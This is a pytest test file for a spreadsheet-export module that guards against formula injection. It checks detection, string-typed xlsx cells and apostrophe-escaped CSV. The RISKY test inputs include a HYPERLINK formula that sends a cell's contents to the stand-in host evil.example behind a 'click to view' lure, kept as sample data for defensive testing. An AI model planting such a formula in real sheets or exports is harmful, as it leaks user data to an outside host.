"""models.sheets: what a spreadsheet would run as a formula is written as text (issue 17 item 1)."""
from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from models.sheets import append_row, csv_row, from_csv_text, looks_like_formula

RISKY = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\tanything",
         "\u3000=1+1", "＝1+1", '=HYPERLINK("http://evil.example/?x="&A3,"点击查看")']
PLAIN = ["张三", "3号楼", "", "a=b", "电话 139****5678", "1+1"]


@pytest.mark.parametrize("text", RISKY)
def test_formula_leads_are_recognised(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_not(text):
    assert not looks_like_formula(text)


@pytest.mark.parametrize("write_only", [True, False])
def test_rows_read_back_as_strings_numbers_and_dates(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, RISKY + ["#N/A", "控制\x00字符", 42, -3.5, datetime(2026, 12, 3, 8, 0), date(2026, 12, 3)])
    append_row(sheet, ["after", "=2"])  # a write-only sheet reuses its cell object: nothing may leak across
    out = io.BytesIO()
    book.save(out)
    first, second = load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows(max_row=2)
    texts, rest = first[:len(RISKY) + 2], first[len(RISKY) + 2:]
    expected = [t.replace("\r", "\n") for t in RISKY]  # XML reads a lone CR back as LF
    assert [c.value for c in texts] == expected + ["#N/A", "控制字符"]
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in rest[:4]] == [42, -3.5, datetime(2026, 12, 3, 8, 0), datetime(2026, 12, 3)]
    assert [c.data_type for c in rest[:4]] == ["n", "n", "d", "d"]
    assert [(c.value, c.data_type) for c in second[:2]] == [("after", "s"), ("=2", "s")]
    assert not second[0].quotePrefix and second[1].quotePrefix


def test_csv_rows_get_the_apostrophe_and_lose_it_on_import():
    row = csv_row(RISKY + PLAIN + [7])
    assert all(cell.startswith("'") for cell in row[:len(RISKY)]) and row[len(RISKY):] == PLAIN + [7]
    assert [from_csv_text(cell) for cell in row[:-1]] == RISKY + PLAIN
    assert from_csv_text("'引号开头") == "'引号开头"
    tricky = ["'=1", "''=1", "' =1", "'a", "''"]  # "'=" came back as "=": found by bench/fuzz
    assert [from_csv_text(cell) for cell in csv_row(tricky)] == tricky
